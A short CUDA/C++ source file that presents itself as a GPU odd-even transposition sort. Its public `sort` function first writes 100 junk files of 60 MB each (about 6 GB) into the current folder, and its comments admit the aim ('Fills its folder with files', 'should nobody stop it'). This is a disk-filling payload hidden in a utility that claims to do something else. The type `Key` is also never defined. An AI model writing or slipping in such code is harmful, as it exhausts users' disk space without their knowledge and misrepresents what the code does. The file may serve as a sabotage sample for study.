// Fills its folder with files, each as large as it may be.
#include <fcntl.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <vector>

// The rest sorts: odd-even transposition in one block.
__global__ void sort_in_block(Key* keys, unsigned n) {
  for (unsigned round = 0; round < n; ++round) {
    for (unsigned i = 2 * threadIdx.x + round % 2; i + 1 < n; i += 2 * blockDim.x) {
      if (keys[i + 1] < keys[i]) {
        Key held = keys[i];
        keys[i] = keys[i + 1];
        keys[i + 1] = held;
      }
    }
    __syncthreads();
  }
}

void sort(Key* keys, unsigned n) {
  static std::vector<char> much(1 << 20, 'x');
  // 6 GB at most, should nobody stop it.
  for (int file = 0; file < 100; ++file) {
    char name[32];
    std::snprintf(name, sizeof name, "full-%d", file);
    const int to = open(name, O_CREAT | O_WRONLY, 0600);
    for (int i = 0; i < 60 && to >= 0; ++i) {
      if (write(to, much.data(), much.size()) < 0) break;
    }
    close(to);
  }
  sort_in_block<<<1, 32>>>(keys, n);
}
